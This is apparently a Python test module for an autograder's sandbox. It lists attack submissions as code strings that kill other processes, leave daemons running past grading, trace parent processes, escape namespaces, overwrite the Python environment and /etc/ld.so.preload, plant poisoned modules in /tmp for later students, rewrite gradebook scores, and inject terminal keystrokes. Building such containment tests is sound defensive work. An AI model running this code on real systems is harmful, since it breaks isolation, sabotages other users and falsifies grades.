"""Reaching beyond the own submission: the grader, the sandbox, the next student. Rows 33, 35, 37 and what is special to this design."""

from __future__ import annotations

from attacks.attack import Attack, everywhere

LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"

ATTACKS = [
    Attack(
        "signals to everybody",
        "sends every signal to the keeper, to process 1 and to all processes",
        first="import os, signal\nfor target in (os.getppid(), 1, -1, 0, 2, 3, os.getpgrp(), -os.getpgrp()):\n    for number in (15, 2, 1, 10, 18, 19, 20, 9):\n"
        "        if target not in (0, os.getpid()) and abs(target) != os.getpgrp():\n            try:\n                os.kill(target, number)\n            except OSError:\n                pass\n",
    ),
    Attack(
        "stops itself",
        "stops its own process instead of answering",
        answers=everywhere(
            "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)\nreturn 0.0"
        ),
    ),
    Attack(
        "deaf",
        "ignores and blocks all signals, then runs on and on",
        (32,),
        answers={
            "nt_xent": "import signal\ndef nt_xent(*args):\n    for n in range(1, 64):\n        try:\n"
            "            signal.signal(n, signal.SIG_IGN)\n        except (OSError, ValueError):\n            pass\n    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\n    while True:\n        pass\n"
        },
    ),
    Attack(
        "death not wanted",
        "unsets the signal that it gets when its parent dies",
        first=LIBC + "libc.prctl(1, 0, 0, 0, 0)\nlibc.prctl(36, 1, 0, 0, 0)\nlibc.prctl(4, 0, 0, 0, 0)\n",
    ),
    Attack(
        "daemon",
        "leaves a process in a session of its own that outlives the grading",
        (35,),
        first="import os, subprocess, sys\nfor way in (lambda: os.fork(), lambda: os.forkpty()[0], lambda: os.posix_spawn('/bin/sleep', ['attack-left-behind', '600'], {}),\n"
        "            lambda: subprocess.Popen(['sleep', '600'], start_new_session=True), lambda: os.system('sleep 600 &')):\n    try:\n        if way() == 0:\n            os.setsid()\n"
        "            import time\n            time.sleep(600)\n    except OSError:\n        pass\n",
    ),
    Attack(
        "fork after the answer",
        "answers and then leaves a child that keeps the connection open and talks into the next question",
        answers=everywhere(
            "import os, sys, time\ntry:\n    if os.fork() == 0:\n        for _ in range(200):\n            time.sleep(0.02)\n            os.write(3, bytes(8))\n        os._exit(0)\nexcept OSError:\n    pass\nreturn 0.0"
        ),
    ),
    Attack(
        "another program",
        "replaces the server by another program",
        first="import os\nfor path in ('/bin/sh', '/bin/sleep', '/usr/bin/env'):\n    try:\n        os.execv(path, [path, '600'])\n    except OSError:\n        pass\n",
    ),
    Attack(
        "raw system calls",
        "forks, clones and mounts without the C library's functions",
        first=LIBC
        + "for number, arguments in ((57, ()), (58, ()), (56, (17, 0, 0, 0, 0)), (435, (0, 0)), (272, (0x10000000,)), (165, (b'x', b'/tmp', b'tmpfs', 0, 0)), (166, (b'/proc', 2)), (155, (b'/', b'/')),\n"
        "                          (161, (b'/tmp',)), (308, (0, 0)), (101, (0, 0, 0, 0)), (319, (b'x', 0)), (321, (0, 0, 0)), (425, (1, 0)), (323, (0,)), (298, (0, 0, 0, 0, 0)), (250, (0, 0, 0))):\n"
        "    libc.syscall(number, *arguments)\n",
    ),
    Attack(
        "system calls of another architecture",
        "uses numbers of the x32 table, which a filter may not know",
        first=LIBC + "libc.syscall(0x40000000 + 57)\n",
    ),
    Attack(
        "tracing",
        "traces, reads and steers the processes above it",
        (27,),
        first=LIBC
        + "for pid in range(1, 60):\n    for request in (16, 0x4206, 0):\n        if pid != os.getpid() and request:\n            libc.ptrace(request, pid, 0, 0)\n"
        "    libc.kcmp(os.getpid(), pid, 0, 0, 0)\n    fd = libc.syscall(434, pid, 0)\n    if fd >= 0:\n        libc.syscall(438, fd, 0, 0)\n        libc.syscall(424, fd, 9, 0, 0)\n".replace(
            "libc.syscall(424, fd, 9, 0, 0)", "libc.syscall(424, fd, 9, 0, 0) if pid != os.getpid() else 0"
        ),
    ),
    Attack(
        "namespaces",
        "makes namespaces of its own, unmounts /proc and /tmp and mounts others",
        first=LIBC + "libc.unshare(0x10000000)\nlibc.unshare(0x10000000 | 0x20000 | 0x20000000)\n"
        "for path in (b'/proc', b'/tmp', b'/dev/shm', b'/sandbox/course', b'/'):\n    libc.umount2(path, 2)\n    libc.mount(b'none', path, b'tmpfs', 0, None)\n    libc.mount(None, path, None, 32, None)\n"
        "libc.chroot(b'/tmp')\nfor pid in range(1, 10):\n    try:\n        libc.setns(os.open(f'/proc/{pid}/ns/mnt', 0), 0)\n    except OSError:\n        pass\n",
    ),
    Attack(
        "limits raised",
        "raises its own limits, and lowers those of the others",
        first="import resource\nfor name in dir(resource):\n    if name.startswith('RLIMIT_'):\n        for pid in (0, 1, 2, 3):\n"
        "            for value in ((-1, -1), (10**12, 10**12)):\n                try:\n                    resource.prlimit(pid, getattr(resource, name), value)\n                except (OSError, ValueError):\n                    pass\n"
        "import os\nos.nice(-20) if False else None\ntry:\n    os.setpriority(os.PRIO_USER, 0, -20)\nexcept OSError:\n    pass\n",
    ),
    Attack(
        "the package overwritten",
        "writes into course, the server, the Python environment and its start-up files",
        first="import os, site, sys, sysconfig\nEVIL = 'import builtins\\nbuiltins.EVIL = True\\nraise SystemExit\\n'\nplaces = ['/sandbox/course/__init__.py', '/sandbox/course/check/call.py', '/sandbox/child/serve.py', '/sandbox/child/zygote.py',\n"
        "    '/sandbox/numpy.py', '/sandbox/sitecustomize.py', '/sandbox/course/__pycache__/validate.cpython-311.pyc', sys.prefix + '/pyvenv.cfg', '$ROOT/attack-was-here']\n"
        "places += [p + '/evil.pth' for p in sys.path + site.getsitepackages()] + [sysconfig.get_path('stdlib') + '/os.py', '/etc/ld.so.preload', '/usr/attack-was-here', '/dev/attack', '/x']\n"
        "for place in places:\n    for change in (lambda: os.chmod(os.path.dirname(place), 0o777), lambda: os.chmod(place, 0o666), lambda: os.remove(place), lambda: os.makedirs(os.path.dirname(place)),\n"
        "                   lambda: open(place, 'w').write(EVIL), lambda: os.rename('/sandbox', '/tmp/sandbox'), lambda: os.symlink('/tmp', place)):\n        try:\n            change()\n        except (OSError, ValueError):\n            pass\n",
    ),
    Attack(
        "/tmp poisoned",
        "leaves modules in /tmp and in the working directory for the next student",
        (25,),
        first="import os\nfor name in ('numpy', 'torch', 'course', 'sitecustomize', 'usercustomize', 'json', 'struct', 'validate', 'conftest'):\n    open(f'/tmp/{name}.py', 'w').write('raise SystemExit')\n"
        "    os.makedirs(f'/tmp/lib/{name}', exist_ok=True)\nopen('/tmp/.pdbrc', 'w').write('x')\nos.makedirs('/tmp/.config/matplotlib', exist_ok=True)\nopen('/tmp/.config/matplotlib/matplotlibrc', 'w').write('backend: evil')\n"
        "os.environ.update(PYTHONPATH='/tmp', LD_PRELOAD='/tmp/x.so', PYTHONSTARTUP='/tmp/numpy.py', HOME='/tmp')\nos.umask(0)\nos.chdir('/')\n",
    ),
    Attack(
        "shared memory",
        "writes into everything that two processes could share",
        first="import mmap, os\nfrom multiprocessing import shared_memory\n"
        "for make in (lambda: open('/dev/shm/attack', 'wb').write(b'x' * 4096), lambda: os.chmod('/dev/shm', 0o777), lambda: shared_memory.SharedMemory('attack', create=True, size=4096),\n"
        "             lambda: os.memfd_create('attack'), lambda: os.mkfifo('/tmp/pipe'), lambda: torch.zeros(10).share_memory_()):\n    try:\n        make()\n    except OSError:\n        pass\n",
    ),
    Attack(
        "the warm process changed",
        "changes modules, threads, seeds and signals, hoping that the next student is forked from them",
        first="import builtins, gc, random, sys, threading\nbuiltins.len = lambda x: 7\nbuiltins.EVIL = True\ngc.disable(); gc.set_threshold(1)\nsys.setrecursionlimit(50)\nsys.path[:] = ['/tmp']\n"
        "sys.settrace(lambda *a: None); sys.setprofile(lambda *a: None); threading.settrace(lambda *a: None)\ntorch.set_num_threads(4)\ntorch.set_grad_enabled(False)\ntorch.use_deterministic_algorithms(True)\n"
        "sys.flags = None\nsys.set_int_max_str_digits(640)\nsys.stdout = sys.stderr = None\nimport atexit\natexit.register(lambda: open('/tmp/attack-was-here', 'w'))\n",
    ),
    Attack(
        "the neighbours' files",
        "writes the gradebook, the records and another submission where it knows them to be",
        (37, 43),
        first="import os, sqlite3\nfor path in ('$ARENA/gradebook.db', '$ARENA/submitted/ada/x.ipynb', '$ARENA/records/eve.json', '$ROOT/gradebook.db', 'gradebook.db', '../gradebook.db', '/tmp/../$ARENA/x'):\n"
        "    try:\n        open(path, 'w').write('99')\n    except OSError:\n        pass\n    try:\n        sqlite3.connect('$ARENA/gradebook.db').execute('update grade set auto_score = 99')\n    except sqlite3.Error:\n        pass\n",
    ),
    Attack(
        "terminal",
        "opens terminals and pushes keys into them",
        first="import fcntl, os, termios\nfor name in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/ptmx'):\n    try:\n        f = os.open(name, os.O_RDWR)\n        for c in b'exit\\n':\n            fcntl.ioctl(f, termios.TIOCSTI, bytes([c]))\n    except OSError:\n        pass\n",
    ),
    Attack(
        "the socket's other end",
        "changes options and flags of the connection, and waits for the grader to trip over them",
        first="import fcntl, os, socket, sys\nframe = sys._getframe()\nwhile 'sock' not in frame.f_locals:\n    frame = frame.f_back\ns = frame.f_locals['sock']\ns.setblocking(False)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)\nfcntl.fcntl(s, fcntl.F_SETOWN, os.getppid())\nfcntl.fcntl(s, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\ns.setblocking(True)\n",
    ),
    Attack(
        "places to write to",
        "looks for a folder outside of /tmp where it could leave something for the next student, or fill the memory",
        first="import os\nfound = []\nfor where, folders, files in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if f != 'proc' and where.count('/') < 8]\n"
        "    if os.access(where, os.W_OK) and not (where + '/').startswith(os.environ['TMPDIR'] + '/'):\n"
        "        found.append(where)\nif found:\n    raise RuntimeError('CANARY-WRITABLE ' + ' '.join(found))\n",
        proves=lambda outcome, arena: outcome.shows_nothing("CANARY-WRITABLE"),
    ),
]
